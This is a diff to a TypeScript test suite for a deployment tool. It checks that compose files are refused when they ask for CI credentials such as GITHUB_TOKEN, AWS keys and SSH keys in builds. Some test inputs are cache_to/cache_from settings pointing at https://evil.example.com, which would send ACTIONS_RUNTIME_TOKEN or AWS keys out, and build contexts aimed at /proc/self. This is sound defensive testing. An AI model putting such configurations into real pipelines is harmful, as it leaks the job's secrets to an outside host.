@@ -1,7 +1,7 @@
 import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { formatPlace } from '../../../src/kernel/errors.ts';
+import type { Place } from '../../../src/kernel/errors.ts';
 import { emptyRegistry, recordBuild, resolved } from './build-recorder.ts';
 
 /** The job's credentials, each with a value that is found wherever it goes. */
@@ -15,7 +15,7 @@ const job: Readonly<Record<string, string>> = Object.fromEntries(
       'INPUT_SSH-KEY',
     ],
     ...['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN', 'CLOUDFLARE_API_TOKEN'],
-    ...['PROD_ENV', 'SLACK_WEBHOOK_URL', 'PROD_SSH_KEY', 'aws_secret_access_key'],
+    ...['PROD_ENV', 'SLACK_WEBHOOK_URL', 'PROD_SSH_KEY', 'PROD_REGISTRY_PASSWORD', 'aws_secret_access_key'],
     ...['OWN_ENV_TEXT', 'OWN_HOOK'],
   ].map((name) => [name, `stolen-${name.toLowerCase()}-7c1f`]),
 );
@@ -41,50 +41,31 @@ const secret = (name: string) =>
 
 /** Ways in which a compose file can ask for a variable in a build, each with the key that is named. */
 const asks: readonly (readonly [service: string, name: string, key: string])[] = [
-  ['build: { context: ., args: { A: "${GITHUB_TOKEN}" } }', 'GITHUB_TOKEN', 'build.args.A'],
-  ['build: { context: ., args: ["A=x${SLUICE_SSH_KEY}y"] }', 'SLUICE_SSH_KEY', 'build.args.A'],
+  ['args: { A: "${GITHUB_TOKEN}" }', 'GITHUB_TOKEN', 'build.args.A'],
+  ['args: ["A=x${SLUICE_SSH_KEY}y"]', 'SLUICE_SSH_KEY', 'build.args.A'],
+  ['args: [ACTIONS_RUNTIME_TOKEN]', 'ACTIONS_RUNTIME_TOKEN', 'build.args.ACTIONS_RUNTIME_TOKEN'],
+  ['args: { AWS_SESSION_TOKEN: }', 'AWS_SESSION_TOKEN', 'build.args.AWS_SESSION_TOKEN'],
+  ['args: { A: "${AWS_ACCESS_KEY_ID:-none}" }', 'AWS_ACCESS_KEY_ID', 'build.args.A'],
+  ['args: { A: "${NOT_SET:-${CLOUDFLARE_API_TOKEN}}" }', 'CLOUDFLARE_API_TOKEN', 'build.args.A'],
+  ['args: { A: "${aws_secret_access_key}" }', 'aws_secret_access_key', 'build.args.A'],
+  ['dockerfile_inline: "FROM scratch\\nLABEL a=$GH_TOKEN"', 'GH_TOKEN', 'build.dockerfile_inline'],
+  ['labels: { a: "${SLUICE_REGISTRY_PASSWORD}" }', 'SLUICE_REGISTRY_PASSWORD', 'build.labels.a'],
   [
-    'build: { context: ., args: [ACTIONS_RUNTIME_TOKEN] }',
-    'ACTIONS_RUNTIME_TOKEN',
-    'build.args.ACTIONS_RUNTIME_TOKEN',
-  ],
-  [
-    'build: { context: ., args: { AWS_SESSION_TOKEN: } }',
-    'AWS_SESSION_TOKEN',
-    'build.args.AWS_SESSION_TOKEN',
-  ],
-  ['build: { context: ., args: { A: "${AWS_ACCESS_KEY_ID:-none}" } }', 'AWS_ACCESS_KEY_ID', 'build.args.A'],
-  [
-    'build: { context: ., args: { A: "${NOT_SET:-${CLOUDFLARE_API_TOKEN}}" } }',
-    'CLOUDFLARE_API_TOKEN',
-    'build.args.A',
-  ],
-  ['build: { context: ., args: { A: "${aws_secret_access_key}" } }', 'aws_secret_access_key', 'build.args.A'],
-  [
-    'build: { context: ., dockerfile_inline: "FROM scratch\\nLABEL a=$GH_TOKEN" }',
-    'GH_TOKEN',
-    'build.dockerfile_inline',
-  ],
-  [
-    'build: { context: ., labels: { a: "${SLUICE_REGISTRY_PASSWORD}" } }',
-    'SLUICE_REGISTRY_PASSWORD',
-    'build.labels.a',
-  ],
-  [
-    'build: { context: ., x-bake: { args: { A: "${ACTIONS_ID_TOKEN_REQUEST_TOKEN}" } } }',
+    'x-bake: { args: { A: "$ACTIONS_ID_TOKEN_REQUEST_TOKEN" } }',
     'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
     'build.x-bake.args.A',
   ],
-  [
-    'build: { context: ., cache_from: ["type=registry,ref=r.example.com/${SLACK_WEBHOOK_URL}"] }',
-    'SLACK_WEBHOOK_URL',
-    'build.cache_from',
-  ],
-  ['{ image: "r.example.com/x:${PROD_SSH_KEY}", build: . }', 'PROD_SSH_KEY', 'image'],
-  ['build: { context: ., args: { A: "$OWN_ENV_TEXT" } }', 'OWN_ENV_TEXT', 'build.args.A'],
-  ['build: { context: ., args: { A: "$OWN_HOOK" } }', 'OWN_HOOK', 'build.args.A'],
-  ['build: { context: ., args: { A: "$PROD_ENV" } }', 'PROD_ENV', 'build.args.A'],
+  ['cache_from: ["r.example.com/${SLACK_WEBHOOK_URL}"]', 'SLACK_WEBHOOK_URL', 'build.cache_from'],
+  ['args: { A: "$OWN_ENV_TEXT" }', 'OWN_ENV_TEXT', 'build.args.A'],
+  ['args: { A: "$OWN_HOOK" }', 'OWN_HOOK', 'build.args.A'],
+  ['args: { A: "$PROD_ENV" }', 'PROD_ENV', 'build.args.A'],
+  ['}, image: "r.example.com/x:${PROD_SSH_KEY}", x-none: {', 'PROD_SSH_KEY', 'image'],
 ];
+
+/** `more/c.yml:1` */
+function shortPlace(at: Place | undefined): string {
+  return `${at?.file.replace(/^.*\/build-contract-\w+\//, '')}:${at?.line}`;
+}
 
 function keyFile(onTestFinished: (work: () => void) => void): string {
   const folder = mkdtempSync('/tmp/hostile-key-');
@@ -95,35 +76,22 @@ function keyFile(onTestFinished: (work: () => void) => void): string {
 
 describe.concurrent('a name that a foreign file chooses, in a build without a target', () => {
   test('is refused with its file and key, however it is written', async () => {
-    const lines = asks.map(
-      ([text], index) => `  s${index}: ${text.startsWith('{') ? text : `{ ${text} }`}\n`,
+    const lines = asks.map(([keys], index) => `  s${index}: { build: { context: ., ${keys} } }\n`);
+    const included = 'services: { inc: { build: { context: .., args: ["A=${PROD_REGISTRY_PASSWORD}"] } } }\n';
+    const compose = `include: [more/c.yml]\nservices:\n${lines.join('')}`;
+    const { errors, environ } = await recordBuild(files(compose, { 'more/c.yml': included }), job);
+    const told = errors.map(({ code, message, at }) => `${shortPlace(at)} ${code} ${message.split(',')[0]}`);
+    const wanted = asks.map(
+      ([, name, key], index) =>
+        `compose.yml:${index + 3} compose.reserved services.s${index}.${key} asks for ${name}`,
     );
-    const { errors, environ } = await recordBuild(files(`services:\n${lines.join('')}`), job);
-    const told = errors.map(
-      ({ code, message, at }) => `${at && formatPlace(at)} ${code} ${message.split(',')[0]}`,
-    );
-    expect(told).toEqual(
-      asks.map(([, name, key], index) =>
-        expect.stringMatching(
-          new RegExp(
-            `compose\\.yml:${index + 2}:\\d+ compose\\.reserved services\\.s${index}\\.${key} asks for ${name}$`,
-          ),
-        ),
-      ),
-    );
+    wanted.push('more/c.yml:1 compose.reserved services.inc.build.args.A asks for PROD_REGISTRY_PASSWORD');
+    expect(told.sort()).toEqual(wanted.sort());
     expect(environ).toBeUndefined();
     expect(JSON.stringify(errors)).not.toMatch(values);
   });
 
-  test('is refused in a file that is included', async () => {
-    const more = 'services: { web: { build: { context: .., args: ["A=${GITHUB_TOKEN}"] } } }\n';
-    const { errors } = await recordBuild(files('include: [more/c.yml]\n', { 'more/c.yml': more }), job);
-    expect(errors).toMatchObject([
-      { code: 'compose.reserved', at: { file: expect.stringMatching(/more\/c\.yml$/), line: 1 } },
-    ]);
-  });
-
-  test('is refused as a build secret, and so are files that are an environment', async ({
+  test('is refused as a secret or a cache of a build, and so are files with credentials', async ({
     onTestFinished,
   }) => {
     const key = keyFile(onTestFinished);
@@ -138,6 +106,9 @@ describe.concurrent('a name that a foreign file chooses, in a build without a ta
   h: { build: { context: ., additional_contexts: { p: /proc/self } } }
   i: { build: { context: ., secrets: [i] } }
   j: { build: { context: ., x-bake: { ssh: ["key=${key}"] } } }
+  k: { build: { context: ., cache_to: ["type=gha,url=https://evil.example.com/"] } }
+  l: { build: { context: ., cache_from: ["TYPE=gha,URL_V2=https://evil.example.com/"] } }
+  m: { build: { context: ., cache_to: ["type=s3,region=x,bucket=b,endpoint_url=https://evil.example.com"] } }
 secrets:
   a: { environment: GITHUB_TOKEN }
   b: { environment: INPUT_SSH-KEY }
@@ -152,8 +123,8 @@ secrets:
     const env = { ...job, SLUICE_SSH_KEY_FILE: key };
     const { errors, environ } = await recordBuild(files(compose), env, undefined, link);
     expect(errors.map(({ code, message, at }) => `${code} ${at?.line} ${message}`)).toEqual([
-      expect.stringMatching(/^compose\.reserved 13 a: the build secret a asks for GITHUB_TOKEN/),
-      expect.stringMatching(/^compose\.reserved 14 b: the build secret b asks for INPUT_SSH-KEY/),
+      expect.stringMatching(/^compose\.reserved 16 a: the build secret a asks for GITHUB_TOKEN/),
+      expect.stringMatching(/^compose\.reserved 17 b: the build secret b asks for INPUT_SSH-KEY/),
       expect.stringMatching(/^compose\.reserved 4 c: the build secret t asks for AWS_SECRET_ACCESS_KEY/),
       expect.stringMatching(
         /^compose\.reserved 5 d: the build secret SLUICE_SSH_KEY asks for SLUICE_SSH_KEY/,
@@ -164,22 +135,11 @@ secrets:
       expect.stringMatching(/ h: the context p is \/proc\/self/),
       expect.stringMatching(/ i: the build secret i is .*\/login, a file with credentials of the job/),
       expect.stringMatching(/ j: the SSH key of the build is .*\/key, a file with credentials/),
+      expect.stringMatching(/ k: a cache of type gha would be sent ACTIONS_RUNTIME_TOKEN/),
+      expect.stringMatching(/ l: a cache of type gha would be sent ACTIONS_RUNTIME_TOKEN/),
+      expect.stringMatching(/ m: a cache of type s3 would be sent AWS_ACCESS_KEY_ID/),
     ]);
     expect(environ).toBeUndefined();
-  });
-
-  test('does not send the token of GitHub’s cache, or AWS keys, to an address of its own', async () => {
-    const entries = [
-      'type=gha,url=https://evil.example.com/',
-      'TYPE=gha,URL_V2=https://evil.example.com/',
-      'type=s3,region=x,bucket=b,endpoint_url=https://evil.example.com',
-    ];
-    const lines = entries.map(
-      (entry, index) => `  s${index}: { build: { context: ., cache_to: ["${entry}"] } }\n`,
-    );
-    const { errors } = await recordBuild(files(`services:\n${lines.join('')}`), job);
-    expect(errors).toHaveLength(3);
-    expect(errors).toMatchObject(entries.map(() => ({ code: 'compose.reserved' })));
   });
 });
 
@@ -233,39 +193,28 @@ describe.concurrent('a name that a foreign file chooses, in a deploy', () => {
 
   test.each([
     [
-      'environment: [GITHUB_TOKEN]',
-      'compose.reserved compose.yml:1 services.web.environment asks for GITHUB_TOKEN',
+      'services: { a: { image: a, environment: [GITHUB_TOKEN] }, b: { image: b, environment: { AWS_SESSION_TOKEN: } } }',
+      'compose.reserved compose.yml:1 services.a.environment asks for GITHUB_TOKEN',
+      'compose.reserved compose.yml:1 services.b.environment asks for AWS_SESSION_TOKEN',
     ],
     [
-      'environment: { AWS_SECRET_ACCESS_KEY: }',
-      'compose.reserved compose.yml:1 services.web.environment asks for AWS_SECRET_ACCESS_KEY',
+      'services: { web: { image: a, env_file: app.conf } }',
+      'env.reserved app.conf:2 An env file takes over SLUICE_SSH_KEY',
     ],
-    ['env_file: app.conf', 'env.reserved app.conf:2 An env file takes over SLUICE_SSH_KEY'],
     [
-      'command: "${CLOUDFLARE_API_TOKEN}"',
-      'compose.variable compose.yml:1 The compose files use variables that the target does not set: CLOUDFLARE_API_TOKEN',
+      'services: { web: { image: a, command: "${CLOUDFLARE_API_TOKEN}" } }',
+      'compose.variable compose.yml:1 The compose files use variables that the target does not set: CLOUDFLARE_API_TOKEN (',
     ],
-  ])('%s is refused with its place', async (text, line) => {
-    const compose = `services: { web: { image: "acme/web:1", ${text} } }\n`;
-    const { errors, model } = await plan(compose, target('env-file: prod.env'), {
-      ...own('A=1\n'),
-      'app.conf': 'B=1\nSLUICE_SSH_KEY\n',
-    });
-    const told = errors.map(
-      ({ code, message, at }) =>
-        `${code} ${at?.file.split('/').at(-1)}:${at?.line} ${message.split(', which')[0]}`,
-    );
-    expect(told).toEqual([expect.stringContaining(line)]);
+    [
+      'services: { web: { image: a, secrets: [t] } }\nsecrets: { t: { environment: ACTIONS_RUNTIME_TOKEN } }',
+      'compose.variable compose.yml:2 Secrets and configs are to hold variables that the target does not set: ACTIONS_',
+    ],
+  ])('%s is refused with its place', async (compose, ...lines) => {
+    const more = { ...own('A=1\n'), 'app.conf': 'B=1\nSLUICE_SSH_KEY\n' };
+    const { errors, model } = await plan(`${compose}\n`, target('env-file: prod.env'), more);
+    const told = errors.map(({ code, message, at }) => `${code} ${shortPlace(at)} ${message}`);
+    expect(told).toEqual(lines.map((line) => expect.stringContaining(line)));
     expect(JSON.stringify([errors, model])).not.toMatch(values);
-  });
-
-  test('a secret that is a variable is refused', async () => {
-    const compose =
-      'services: { web: { image: "acme/web:1", secrets: [t] } }\nsecrets: { t: { environment: ACTIONS_RUNTIME_TOKEN } }\n';
-    const { errors } = await plan(compose, target('env-file: prod.env'), own('A=1\n'));
-    expect(errors).toMatchObject([
-      { code: 'compose.variable', message: expect.stringContaining('ACTIONS_RUNTIME_TOKEN') },
-    ]);
   });
 
   test('an env file of the target takes over none by its name', async () => {
